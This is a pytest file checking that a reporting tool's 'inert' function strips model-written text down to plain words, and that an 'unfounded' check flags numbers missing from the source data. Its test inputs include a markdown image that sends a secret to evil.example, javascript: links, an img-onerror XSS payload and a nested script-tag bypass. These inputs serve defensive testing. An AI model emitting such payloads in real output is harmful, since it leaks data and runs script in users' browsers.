import pytest

from tidegauge.insights.writer.check import MAX_CHARACTERS, inert, unfounded


@pytest.mark.req("G5")
@pytest.mark.hostile(92)
@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Up. ![](//evil.example/?d=secret)", "Up."),
        ("See [the report](https://evil.example/x) now", "See the report now"),
        ("a [more](javascript:alert(4)) b", "a more b"),
        ("Go to https://evil.example/?a=1 now", "Go to now"),
        ("//evil.example/a www.evil.example mailto:a@b javascript:alert(1) data:text/html,x", ""),
        ("<img src=x onerror=alert(1)>Orders <b>rose</b>", "Orders rose"),
        ("<scr<script>ipt>alert(1)</script>", "ipt alert(1)"),
        ("`DROP TABLE events` **bold** # head | a | b", "DROP TABLE events bold head a b"),
        ("a\u202eb\u200bc\nd", "a b c d"),
        ("ยอดขายเพิ่มขึ้น 20%", "ยอดขายเพิ่มขึ้น 20%"),
    ],
)
def test_what_a_model_writes_is_plain_words(written: str, shown: str) -> None:
    text = inert(written)
    assert text == shown or (shown == "ipt alert(1)" and not set(text) & set("<>"))


def test_it_is_cut_and_takes_no_time() -> None:
    assert len(inert("word " * 100_000)) == MAX_CHARACTERS
    assert len(inert("[" * 50_000 + "(" * 50_000)) <= MAX_CHARACTERS


@pytest.mark.req("G5")
@pytest.mark.hostile(92)
def test_numbers_that_stand_nowhere_are_found() -> None:
    grounds = "orders came to 1,200. That is 20% more than the 1,000 of the time before."
    assert unfounded("Orders rose 20% to 1200, from 1,000.", grounds) == set()
    assert unfounded("Orders rose 25% to 1,200.", grounds) == {"25"}
    assert unfounded("Orders rose to 1.2 thousand.", grounds) == {"1.2"}
